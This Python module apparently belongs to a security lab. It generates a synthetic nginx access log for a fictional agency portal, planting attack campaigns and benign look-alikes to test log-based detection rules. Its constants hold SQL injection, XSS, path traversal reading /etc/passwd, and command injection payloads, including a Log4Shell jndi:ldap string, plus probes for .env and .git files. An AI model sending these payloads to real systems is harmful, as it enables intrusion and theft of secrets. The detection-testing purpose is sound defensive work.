"""The web part of :mod:`canhgac.lab.log_samples`: an agency portal's nginx access log.

Benign traffic: news and document pages, static files, a search box (some searches contain the
word "select"), a contact form everyone posts to, Roundcube webmail logins (a few users mistype
their password twice), a monitoring probe every minute, search-engine crawlers, an administrator
posting to the CMS's own script since the first hour. Campaigns, one attacker address each:
SQL injection, XSS, path traversal, command injection, a scanner's user agent, a 404 storm, a web
shell answering POSTs, a webmail password brute force, and a traffic spike of the whole site.
"""

# ruff: noqa: E501  (log lines are quoted whole, as the servers write them)

from __future__ import annotations

import random
from collections.abc import Iterator

from canhgac.lab.log_samples_base import (
    LEARN_S,
    Addresses,
    Campaigns,
    Event,
    Planted,
    benign_client,
    evenly,
    rounds_for,
)

RATE_PER_S = 100 / 60  # benign lines per second
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/137.0.182 Chrome/131.0.6778.140 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
SCANNERS = (
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
)
SITE = "https://sotttt.example.gov.vn"
SEARCHES = (
    "select+box+h%E1%BB%93+s%C6%A1",
    "c%C3%A1ch+select+d%E1%BB%AF+li%E1%BB%87u",
    "l%E1%BB%8Bch+c%C3%B4ng+t%C3%A1c",
    "th%C3%B4ng+b%C3%A1o+tuy%E1%BB%83n+d%E1%BB%A5ng",
    "m%E1%BA%ABu+%C4%91%C6%A1n",
    "select",
    "ch%E1%BB%AF+k%C3%BD+s%E1%BB%91",
)
SQLI = (
    "/van-ban/chi-tiet.php?id=15%27%20UNION%20SELECT%20NULL,NULL,version()--%20-",
    "/tin-tuc/xem.php?id=1%20AND%201=1",
    "/tin-tuc/xem.php?id=1%27%20AND%20SLEEP(5)--%20",
    "/van-ban/chi-tiet.php?id=1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables",
    "/tin-tuc/xem.php?id=-1%27%20OR%20%271%27=%271",
    "/van-ban/chi-tiet.php?id=1;WAITFOR%20DELAY%20%270:0:5%27",
)
XSS = (
    "/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/tim-kiem?q=%22%3E%3Csvg/onload=alert(document.domain)%3E",
    "/tin-tuc?page=%3Cimg%20src=x%20onerror=prompt(1)%3E",
    "/lien-he?ten=javascript:alert(1)",
)
TRAVERSAL = (
    "/download.php?file=../../../../etc/passwd",
    "/tai-lieu/tai.php?f=..%2F..%2F..%2Fetc%2Fpasswd",
    "/static/..%2f..%2f..%2fwindows/win.ini",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
)
CMD = (
    "/cgi-bin/ping.cgi?ip=192.0.2.1%3Bid",
    "/tools/ping.php?host=192.0.2.1%7Cwhoami",
    "/tools/dns.php?name=x%24(uname%20-a)",
    "/?q=%24%7Bjndi:ldap://192.0.2.10/a%7D",
)
BOTSEARCH = (
    "/phpmyadmin/index.php",
    "/pma/",
    "/wp-login.php",
    "/mysqladmin/",
    "/webmail/",
    "/roundcube/",
    "/.env",
    "/.git/config",
    "/backup.zip",
    "/admin/config.php",
    "/old/",
    "/db.sql",
    "/wp-admin/setup-config.php",
    "/myadmin/",
    "/xampp/",
    "/cgi-bin/test.cgi",
)


def _line(
    client: str, method: str, target: str, status: int, size: int, referer: str, agent: str
) -> tuple[str, str]:
    return f"{client} - - [", f'] "{method} {target} HTTP/1.1" {status} {size} "{referer}" "{agent}"'


def _pages(rng: random.Random) -> list[tuple[str, str, int, str]]:
    """(method, target, status, referer) of ordinary requests, weighted by repetition."""
    out: list[tuple[str, str, int, str]] = []
    for i in range(300):
        out.append(("GET", f"/tin-tuc/thong-bao-so-{1000 + i}.html", 200, SITE + "/"))
        out.append(("GET", f"/van-ban/{2000 + i}", 200, SITE + "/van-ban"))
    out += [("GET", "/", 200, "-")] * 60
    for name in ("css/main.css?v=3", "js/app.js?v=3", "img/logo.png", "img/banner.jpg"):
        out += [("GET", "/static/" + name, 200, SITE + "/")] * 40
    out += [("GET", "/static/img/logo.png", 304, SITE + "/")] * 30
    out += [("GET", "/favicon.ico", 404, "-")] * 8 + [("GET", "/apple-touch-icon.png", 404, "-")] * 4
    out += [("GET", "/tim-kiem?q=" + q, 200, SITE + "/") for q in SEARCHES] * 3
    out += [("POST", "/lien-he/gui.php", 200, SITE + "/lien-he")] * 6
    out += [("GET", "/?_task=mail&_mbox=INBOX", 200, SITE + "/")] * 6
    rng.shuffle(out)
    return out


def benign_stream(rng: random.Random, n: int, t0: float, duration: float) -> Iterator[Event]:
    pages = _pages(rng)
    clients = [benign_client(rng) for _ in range(20_000)]
    agents = BROWSERS * 6 + CRAWLERS
    for seq, t in enumerate(evenly(t0, duration, n), 1):
        method, target, status, referer = pages[int(rng.random() * len(pages))]
        agent = agents[int(rng.random() * len(agents))]
        client = clients[int(rng.random() * len(clients))]
        size = 0 if status == 304 else 200 + int(rng.random() * 30_000)
        before, after = _line(client, method, target, status, size, referer, agent)
        yield t, -seq, before, after


def _campaign(
    c: Campaigns,
    rule: str,
    keys: dict[str, str],
    start: float,
    span: float,
    requests: list[tuple[str, str, int]],
    client: str,
    agent: str,
    count: int | None = None,
) -> float:
    step = span / max(1, len(requests))
    for i, (method, target, status) in enumerate(requests):
        c.add(start + i * step, *_line(client, method, target, status, 512 + i, "-", agent))
    last = start + (len(requests) - 1) * step
    c.attacks.append(Planted(rule, keys, "web", start, last, len(requests) if count is None else count))
    return last


def _round(rng: random.Random, c: Campaigns, at: float, addresses: Addresses, k: int) -> None:
    browser = BROWSERS[k % len(BROWSERS)]
    a = addresses.next()
    _campaign(c, "logs.web.sqli", {"client": a}, at, 150, [("GET", p, 200) for p in SQLI * 2], a, browser)
    a = addresses.next()
    _campaign(c, "logs.web.xss", {"client": a}, at + 300, 120, [("GET", p, 200) for p in XSS * 2], a, browser)
    a = addresses.next()
    _campaign(
        c,
        "logs.web.traversal",
        {"client": a},
        at + 600,
        120,
        [("GET", p, 404) for p in TRAVERSAL * 2],
        a,
        browser,
    )
    a = addresses.next()
    _campaign(
        c,
        "logs.web.cmd-injection",
        {"client": a},
        at + 900,
        120,
        [("GET", p, 200) for p in CMD * 2],
        a,
        browser,
    )
    a = addresses.next()
    paths = [
        "/",
        "/robots.txt",
        "/sitemap.xml",
        "/tin-tuc/",
        "/gioi-thieu",
        "/lien-he",
        "/van-ban",
        "/.well-known/security.txt",
        "/readme.html",
        "/license.txt",
    ]
    _campaign(
        c,
        "logs.web.scanner",
        {"client": a},
        at + 1200,
        200,
        [("GET", p, 404 if i >= 7 else 200) for i, p in enumerate(paths)],
        a,
        SCANNERS[k % len(SCANNERS)],
    )
    a = addresses.next()
    storm = [
        ("GET", BOTSEARCH[i % len(BOTSEARCH)] + ("" if i < len(BOTSEARCH) else f"?{i}"), 404)
        for i in range(40)
    ]
    _campaign(
        c,
        "logs.web.404-storm",
        {"client": a},
        at + 1500,
        55,
        storm,
        a,
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    )
    a = addresses.next()
    shell = f"/uploads/2026/12/cache-{rng.getrandbits(32):08x}.php"
    c.add(at + 1790, *_line(a, "GET", shell, 200, 48, "-", browser))
    last = _campaign(
        c,
        "logs.web.webshell",
        {"vhost": "", "path": shell},
        at + 1800,
        200,
        [("POST", shell, 200)] * 20,
        a,
        browser,
    )
    c.attacks[-1].first = at + 1790
    c.attacks[-1].last = last
    a = addresses.next()
    _campaign(
        c,
        "logs.auth.brute-force",
        {"client": a, "service": "webmail"},
        at + 2100,
        200,
        [("POST", "/?_task=login", 401)] * 25,
        a,
        browser,
    )
    # look-alike: a user mistypes the webmail password twice, then gets in
    user = benign_client(rng)
    for i, status in enumerate((401, 401, 302)):
        c.add(at + 2500 + 25 * i, *_line(user, "POST", "/?_task=login", status, 300, SITE + "/", browser))
    c.benign.append(
        Planted(
            "logs.auth.success-after-failures",
            {"client": user, "service": "webmail"},
            "web",
            at + 2500,
            at + 2550,
            3,
            note="a user mistyped the webmail password twice",
        )
    )


def web_log(
    rng: random.Random, n: int, t0: float, share: float, addresses: Addresses, source: str
) -> tuple[Iterator[Event], Campaigns]:
    c = Campaigns()
    duration = max(n / RATE_PER_S, 3 * LEARN_S)
    spikes = max(1, n // 500_000)
    spike_lines = 800
    per_round = 12 + 8 + 8 + 8 + 10 + 40 + 21 + 25 + 3
    budget = int(n * share) - spikes * spike_lines
    rounds = rounds_for(budget, per_round, duration, 2700)
    spacing = (duration - LEARN_S) / rounds
    for k in range(rounds):
        _round(rng, c, t0 + LEARN_S + k * spacing + 60, addresses, k)
    for s in range(spikes):  # the whole site: 800 requests in one minute from 40 addresses
        minute = int((t0 + LEARN_S + (s + 0.5) * (duration - LEARN_S) / spikes) // 60) * 60 + 60
        flood = [addresses.next() for _ in range(40)]
        for i in range(spike_lines):
            c.add(
                minute + i * 59.0 / spike_lines,
                *_line(
                    flood[i % 40],
                    "GET",
                    f"/tin-tuc/thong-bao-so-{1000 + i % 300}.html",
                    200,
                    18_000,
                    "-",
                    BROWSERS[i % len(BROWSERS)],
                ),
            )
        c.attacks.append(
            Planted(
                "logs.web.spike",
                {"source": source},
                "web",
                minute,
                minute + 59.0 * (spike_lines - 1) / spike_lines,
                spike_lines,
                note="800 requests in one minute",
            )
        )
    # look-alikes over the whole day: the monitoring probe and the administrator's CMS script
    probes = int(duration // 60)
    for i in range(probes):
        c.add(t0 + 30 + i * 60, *_line("10.0.0.2", "GET", "/health", 200, 2, "-", "Zabbix"))
    c.benign.append(
        Planted(
            "logs.web.scanner",
            {"client": "10.0.0.2"},
            "web",
            t0 + 30,
            t0 + 30 + (probes - 1) * 60,
            probes,
            note="monitoring probe every minute",
        )
    )
    posts = max(3, int(duration // 1200))
    for i in range(posts):
        c.add(
            t0 + 600 + i * 1200,
            *_line("10.0.0.9", "POST", "/quan-tri/luu-bai.php", 200, 90, SITE + "/quan-tri", BROWSERS[0]),
        )
    c.benign.append(
        Planted(
            "logs.web.webshell",
            {"vhost": "", "path": "/quan-tri/luu-bai.php"},
            "web",
            t0 + 600,
            t0 + 600 + (posts - 1) * 1200,
            posts,
            note="the administrator's CMS script, used since the first hour",
        )
    )
    c.benign.append(
        Planted(
            "logs.web.sqli",
            {"target": "/tim-kiem?q=select"},
            "web",
            t0,
            t0 + duration,
            0,
            note="searches containing the word select",
        )
    )
    c.benign.append(
        Planted(
            "logs.web.webshell",
            {"vhost": "", "path": "/lien-he/gui.php"},
            "web",
            t0,
            t0 + duration,
            0,
            note="the contact form, posted to by many clients",
        )
    )
    benign_n = max(0, n - len(c.events))
    return benign_stream(rng, benign_n, t0, duration), c
